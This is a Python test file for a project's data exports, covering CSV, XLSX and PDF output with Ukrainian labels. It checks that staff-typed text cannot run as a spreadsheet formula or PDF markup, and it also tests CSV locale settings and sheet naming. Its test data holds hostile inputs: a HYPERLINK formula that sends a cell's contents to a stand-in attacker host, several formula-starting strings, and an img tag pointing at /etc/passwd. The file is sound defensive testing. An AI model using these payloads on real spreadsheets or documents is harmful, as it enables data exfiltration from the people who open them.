"""Exports: text a staff member typed never runs as a spreadsheet formula or PDF markup."""

import csv
import io

import openpyxl
import pypdfium2

from common.exports import Section, csv_bytes, pdf_bytes, sheet_name, write_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
SECTIONS = [Section("Групи", ["Група", "Людей"], [[text, 3] for text in HOSTILE] + [["Львів-1", 7]])]


def test_csv_cells_that_look_like_formulas_start_with_an_apostrophe():
    rows = list(csv.reader(io.StringIO(csv_bytes([], SECTIONS).decode("utf-8-sig")), delimiter=";"))

    assert [row[0] for row in rows[1:-1]] == [f"'{text}" for text in HOSTILE]
    assert rows[-1] == ["Львів-1", "7"]


def test_xlsx_keeps_the_text_and_holds_no_formula():
    buffer = io.BytesIO()
    write_xlsx([("Звіт", "")], SECTIONS, buffer)
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active

    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value.replace("\n", "\r") for cell in cells if isinstance(cell.value, str)]
    assert [text for text in texts if text in HOSTILE] == HOSTILE  # XML reads a lone CR as LF
    assert sheet.cell(row=sheet.max_row, column=2).value == 7  # numbers stay numbers


def test_csv_is_for_excel_set_up_for_ukrainian_or_russian():
    """A BOM, so Excel reads UTF-8; ";" between cells, as its list separator there is; a
    decimal comma inside a cell stays in its cell."""
    body = csv_bytes([], [Section("Групи", ["Група", "Частка"], [["Київ, центр", "12,5"]])])

    assert body.startswith("\ufeff".encode())
    assert body.decode("utf-8-sig").splitlines() == ["Група;Частка", "Київ, центр;12,5"]


def test_the_xlsx_sheet_is_named():
    buffer = io.BytesIO()
    write_xlsx([], SECTIONS, buffer, sheet="Звіт про навчання")

    assert openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).sheetnames == ["Звіт про навчання"]


def test_sheet_names_are_what_excel_accepts():
    long_heading = [("Звіт про навчання рівних консультанток і консультантів", "")]

    assert sheet_name([], SECTIONS) == "Групи"  # no name given: the first heading
    assert sheet_name(long_heading, SECTIONS) == "Звіт про навчання рівних"  # 31 at most, whole words
    assert sheet_name([], SECTIONS, "Курс [1]: ВІЛ/ІПСШ?") == "Курс 1 ВІЛ ІПСШ"


def test_pdf_shows_markup_as_text():
    title = 'Курс <img src="/etc/passwd" width="100" height="100"/> & <b>жирний</b>'
    document = pypdfium2.PdfDocument(pdf_bytes([(title, "")], [Section(title, [title], [[title]])]))

    text = document[0].get_textpage().get_text_range()
    assert '<img src="/etc/passwd"' in text and "<b>жирний</b>" in text
